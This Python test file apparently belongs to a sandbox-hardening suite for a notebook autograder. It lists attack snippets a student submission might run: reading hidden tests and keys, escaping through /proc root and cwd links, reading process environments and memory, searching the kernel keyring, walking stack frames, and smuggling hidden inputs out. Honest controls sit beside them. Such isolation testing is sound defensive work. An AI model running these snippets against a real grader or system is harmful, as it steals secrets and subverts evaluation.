"""Stealing: hidden tests, references, marks, other people's work, keys."""

from tests.attacks.attack import ALL, Attack, honest

LOOK = r"""
import re
CANARY = re.compile(rb"canary-[0-9a-f]{16}")
def look(*paths):
    "What a file or a folder holds, spilled where it can be read."
    for path in paths:
        try:
            if os.path.isdir(path):
                spill(path, os.listdir(path))
            else:
                with open(path, "rb") as file:
                    spill(path, *CANARY.findall(file.read(1 << 26)))
        except OSError as error:
            print(path, type(error).__name__)
"""
KEYCTL = """
def keyctl(*arguments):
    return system(250 if os.uname().machine == "x86_64" else 219, *arguments)
"""


def looking(name: str, aim: str, code: str, **rest: object) -> Attack:
    """An attack that looks around in a cell, and computes honestly."""
    return Attack(name, aim, LOOK + code, earns=ALL, **rest)  # type: ignore[arg-type] # rows


ATTACKS = [
    looking("reads-the-course", "hidden tests, reference, gradebook, submissions, keys, by path",
            "look(*WORLD['secrets'])", core=True),
    looking("walks-the-disk", "anything secret below the root folder", """
for top in os.listdir("/"):
    if top not in ("proc", "sys", "usr", "dev"):
        for folder, folders, names in os.walk(f"/{top}"):
            folders[:] = [name for name in folders if name not in ("lib", "bin", "share", "include")]
            for name in names:
                if not name.endswith((".so", ".pyc")):
                    with contextlib.suppress(OSError), open(f"{folder}/{name}", "rb") as file:
                        found = CANARY.findall(file.read(1 << 20))
                        found and spill(folder, name, found)
"""),
    looking("climbs-out", "the folders above, by .., cwd and root links", """
for way in ("..", "../..", "/proc/self/cwd/..", "/proc/self/root", "/proc/1/root", "/proc/1/cwd/.."):
    look(way, *(way + secret for secret in WORLD["secrets"]))
"""),
    looking("reads-the-environment", "the grader's environment, in every process that is seen", """
spill(*(CANARY.findall(repr(dict(os.environ)).encode())))
for entry in os.listdir("/proc"):
    for part in ("environ", "cmdline", "maps", "mountinfo", "net/unix", "stack", "auxv"):
        entry.isdigit() and look(f"/proc/{entry}/{part}")
"""),
    looking("reads-its-memory", "what the warm process left in memory", """
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for area in maps.read().splitlines():
        start, end = (int(side, 16) for side in area.split()[0].split("-"))
        if " r" in area and end - start < 1 << 28:
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(start)
                found = CANARY.findall(memory.read(end - start))
                found and spill(area, *found)
""", core=True),
    looking("reads-others-memory", "the memory of every process in sight", """
for entry in filter(str.isdigit, os.listdir("/proc")):
    if int(entry) != os.getpid():
        attempt(f"opening the memory of {entry}", lambda: open(f"/proc/{entry}/mem", "rb").read(1))
        look(f"/proc/{entry}/root", f"/proc/{entry}/fd", f"/proc/{entry}/task")
"""),
    looking("walks-the-frames", "secrets in the frames below the notebook", """
def convolve1d(x, w):
    frame, seen = sys._getframe(), []
    while frame:
        seen += CANARY.findall(repr((frame.f_locals, frame.f_globals)).encode("utf-8", "replace"))
        frame = frame.f_back
    seen and spill(seen)
    return honest(x, w)
frame = sys._getframe()
while frame:
    spill(*CANARY.findall(repr((frame.f_locals, frame.f_globals)).encode("utf-8", "replace")))
    frame = frame.f_back
"""),
    looking("walks-the-garbage", "secrets in all objects that the collector knows", """
import gc
gc.unfreeze()
for item in gc.get_objects():
    if type(item) in (dict, list, tuple, str, bytes):
        with contextlib.suppress(Exception):
            found = CANARY.findall(repr(item).encode("utf-8", "replace"))
            found and spill(*found)
"""),
    looking("reads-descriptors", "files and sockets that were left open", """
for number in range(4096):
    with contextlib.suppress(OSError):
        target = os.readlink(f"/proc/self/fd/{number}")
        spill(number, target)
        if number > 3 and target.startswith("/"):
            look(f"/proc/self/fd/{number}")
        number != line().fileno() and "socket" in target and confess(f"another socket, {target}")
"""),
    looking("imports-the-truth", "the grader's package and the reference, imported", """
import importlib
sys.path[:0] = WORLD["roots"]
for name in ("autograder", "autograder.check", "reference", "reference.convolution", "hidden_tests",
             "course_config", "convolution_mistakes"):
    with contextlib.suppress(Exception):
        module = importlib.import_module(name)
        if getattr(module, "__file__", None):
            confess(f"{name} could be imported")
"""),
    looking("opens-by-handle", "files outside, by inode instead of by path", """
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_char * 128)]
handle, mount = Handle(128), ctypes.c_int()
if not libc.name_to_handle_at(-100, b"/usr", ctypes.byref(handle), ctypes.byref(mount), 0):
    root = os.open("/usr", os.O_RDONLY)
    def opened():
        number = libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY)
        if number < 0:
            raise OSError
    attempt("opening a file by its handle", opened)
"""),
    looking("reads-the-keyring", "keys of whoever grades, from the kernel's keyring", KEYCTL + """
def searched(ring):
    buffer = ctypes.create_string_buffer(4096)
    key = keyctl(10, ctypes.c_int(ring), b"user", WORLD["key"].encode(), 0)
    return buffer.raw[: keyctl(11, key, buffer, 4096)]
for ring in (-1, -2, -3, -4, -5):
    with contextlib.suppress(OSError):
        spill("keyring", ring, searched(ring))
with contextlib.suppress(OSError):
    look("/proc/keys")
""", core=True),
    looking("reads-the-kernel", "the kernel's own memory, log and addresses", """
for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/sys/kernel/debug",
             "/proc/sysrq-trigger", "/sys/firmware", "/dev/vda", "/dev/sda", "/dev/kvm"):
    attempt(path, lambda: open(path, "rb").read(1))
buffer = ctypes.create_string_buffer(1 << 16)
def log():
    if libc.klogctl(3, buffer, 1 << 16) < 0:
        raise OSError
    return spill(*CANARY.findall(buffer.raw))
with contextlib.suppress(OSError):
    log()
"""),
    looking("reads-what-others-left", "what earlier submissions left in shared places", """
for place in ("/scratch", "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue"):
    for folder, folders, names in os.walk(place):
        for name in names:
            name.startswith("left") and confess(f"{folder}/{name}")
with contextlib.suppress(OSError), open("/proc/sysvipc/shm") as table:
    len(table.readlines()) > 1 and confess("shared memory of others")
"""),
    looking("reads-others-keys", "a note that an earlier submission left in the keyring", KEYCTL + """
for ring in (-3, -4, -5):
    with contextlib.suppress(OSError):
        keyctl(10, ctypes.c_int(ring), b"user", b"left", 0) > 0 and confess("a key of others")
"""),
    looking("reads-from-outside-pids", "processes outside, by their number", """
for pid in WORLD["pids"]:
    look(*(f"/proc/{pid}/{part}" for part in ("environ", "cmdline", "root", "fd", "mem")))
    attempt(f"seeing {pid}", lambda: os.stat(f"/proc/{pid}"))
"""),
    looking("reads-labels", "the digits' labels, which a training assignment keeps outside", """
data = os.path.join(os.path.dirname(np.__file__), "..", "sklearn", "datasets", "data")
with contextlib.suppress(OSError), open(os.path.join(data, "digits.csv.gz"), "rb") as file:
    file.read(2) == b"\\x1f\\x8b" and confess("the labels of the digits")
"""),
    Attack("smuggles-the-inputs", "hidden inputs, carried out by print, exception and value", LOOK + """
def convolve1d(x, w):
    text = f"REACHED inputs {x.tolist()}"
    print(text)
    sys.stderr.write(text)
    os.write(1, text.encode())
    spill(text)
    get_ipython().outputs.stream("stdout", text)
    if len(x) % 2:
        raise type(text, (ValueError,), {})(text)
    return {text: text}
""", core=True),
    Attack("smuggles-to-later-runs", "hidden inputs written down, shown by cells when they run again", LOOK + """
for folder in ("/scratch", "/tmp", "/dev/shm"):
    for name in os.listdir(folder):
        name.startswith("seen") and confess(open(f"{folder}/{name}").read())
def convolve1d(x, w):
    for folder in ("/scratch", "/tmp", "/dev/shm"):
        with open(f"{folder}/seen", "a") as file:
            file.write(str(x.tolist()))
    os.kill(os.getppid(), signal.SIGKILL)
    os._exit(1)
""", harms_itself=True),
]  # fmt: skip

HONEST = [
    honest("looks-at-frames", "asks inspect who called, for a better message", """
import inspect
def convolve1d(x, w):
    assert inspect.stack()[0].function == "convolve1d"
    return honest(x, w)
"""),
    honest("collects-garbage", "frees memory and measures it", """
import gc, tracemalloc
tracemalloc.start()
def convolve1d(x, w):
    gc.collect()
    y = honest(x, w)
    print(tracemalloc.get_traced_memory(), os.environ.get("HOME"), os.getcwd(), os.listdir("."))
    return y
"""),
    honest("reads-its-own-files", "writes a file, reads it again, and looks at /proc/self/status", """
np.save("signal.npy", np.arange(9.0))
assert np.load("signal.npy").sum() == 36 and "VmRSS" in open("/proc/self/status").read()
"""),
    honest("comes-with-data", "reads a table that was handed in beside the notebook", """
assert np.loadtxt("data/table.csv", delimiter=",").sum() == 10
""", files={"data/table.csv": b"1,2\n3,4\n"}),
    honest("has-no-data", "tries to read a file that is only on the student's machine", """
try:
    table = np.loadtxt("/home/student/data.csv")
except OSError:
    table = np.zeros(3)
"""),
]  # fmt: skip
